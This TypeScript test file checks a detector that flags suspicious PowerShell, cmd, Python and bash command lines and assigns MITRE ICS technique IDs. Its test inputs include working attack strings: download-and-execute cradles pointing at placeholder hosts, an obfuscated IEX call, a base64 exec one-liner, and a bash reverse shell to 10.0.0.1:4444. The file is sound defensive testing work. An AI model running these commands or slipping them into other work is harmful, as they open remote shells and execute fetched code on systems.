import assert from 'node:assert/strict';
import { test } from 'node:test';
import { scriptContentDetector as d, decodeEncodedCommand } from './script-content.js';
import { ev, techniquesOf } from './test-helpers.js';

const PS = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe';
const enc = (s: string) => Buffer.from(s, 'utf16le').toString('base64');

test('encoded PowerShell is decoded and reported high', () => {
  const f = d.detect(ev({ exe: PS, cmd: `powershell.exe -NoP -enc ${enc('Write-Output 1')}` }));
  assert.equal(f[0]?.technique, 'T0853');
  assert.equal(f[0]?.severity, 'high');
  assert.match(f[0]?.reason ?? '', /Write-Output 1/);
  assert.equal(decodeEncodedCommand(enc('IEX $x')), 'IEX $x');
  assert.equal(decodeEncodedCommand('not base64!'), undefined);
});

test('download cradle in decoded content names both indicators', () => {
  const f = d.detect(ev({ exe: PS, cmd: `powershell -e ${enc("IEX (New-Object Net.WebClient).DownloadString('http://x/a')")}` }));
  assert.match(f[0]?.reason ?? '', /downloads content.*evaluates code/);
});

test('inline PowerShell: plain is low, hidden/bypass medium, FromBase64String high', () => {
  assert.equal(d.detect(ev({ exe: PS, cmd: 'powershell.exe -Command Get-Service' }))[0]?.severity, 'low');
  assert.equal(d.detect(ev({ exe: PS, cmd: 'powershell.exe -nop -w hidden -c Get-Service' }))[0]?.severity, 'medium');
  assert.equal(d.detect(ev({ exe: PS, cmd: 'powershell -c [Convert]::FromBase64String($a)' }))[0]?.severity, 'high');
});

test('PowerShell running a script file, or interactive, is not reported', () => {
  assert.deepEqual(
    techniquesOf(d, ev({ exe: PS, cmd: 'powershell.exe -ExecutionPolicy RemoteSigned -File C:\\ops\\backup.ps1' })),
    [],
  );
  assert.deepEqual(techniquesOf(d, ev({ exe: PS, cmd: 'powershell.exe' })), []);
  assert.deepEqual(techniquesOf(d, ev({ exe: PS, cmd: 'powershell.exe -NoLogo -NoProfile' })), []);
});

test('cmd /c plain is not reported; cmd with obfuscation or admin-share output is T0807', () => {
  assert.deepEqual(techniquesOf(d, ev({ exe: 'C:\\Windows\\System32\\cmd.exe', cmd: 'cmd.exe /c dir C:\\' })), []);
  assert.deepEqual(
    techniquesOf(
      d,
      ev({ exe: 'C:\\Windows\\System32\\cmd.exe', cmd: 'cmd.exe /Q /c cd 1> \\\\127.0.0.1\\ADMIN$\\__16190 2>&1' }),
    ),
    ['T0807'],
  );
});

test('Linux: python -c with base64 exec, bash reverse shell; plain sh -c not reported', () => {
  assert.deepEqual(
    techniquesOf(
      d,
      ev({ exe: '/usr/bin/python3', args: ['python3', '-c', 'import base64;exec(base64.b64decode("aW1wb3J0IG9z"))'] }),
    ),
    ['T0853'],
  );
  assert.deepEqual(
    techniquesOf(d, ev({ exe: '/usr/bin/bash', args: ['bash', '-c', 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'] })),
    ['T0807'],
  );
  assert.deepEqual(techniquesOf(d, ev({ exe: '/bin/sh', args: ['sh', '-c', 'ls -l /var/log'] })), []);
  assert.equal(d.detect(ev({ exe: '/usr/bin/python3', args: ['python3', '-c', 'print(1)'] }))[0]?.severity, 'low');
  assert.deepEqual(techniquesOf(d, ev({ exe: '/usr/bin/python3', args: ['python3', '/opt/scada/poll.py'] })), []);
});

test('script blocks: indicators are reported, ordinary module code is not', () => {
  assert.deepEqual(techniquesOf(d, ev({ script: "IEX(New-Object Net.WebClient).downloadString('https://x/a.png')" })), ['T0853']);
  assert.deepEqual(techniquesOf(d, ev({ script: 'Get-ChildItem C:\\logs | Where-Object Length -gt 1MB | Remove-Item' })), []);
  assert.deepEqual(techniquesOf(d, ev({ script: "$s=[char]73+[char]69+'X'; & ('{1}{0}' -f 'x','ie')" })), ['T0853']);
});
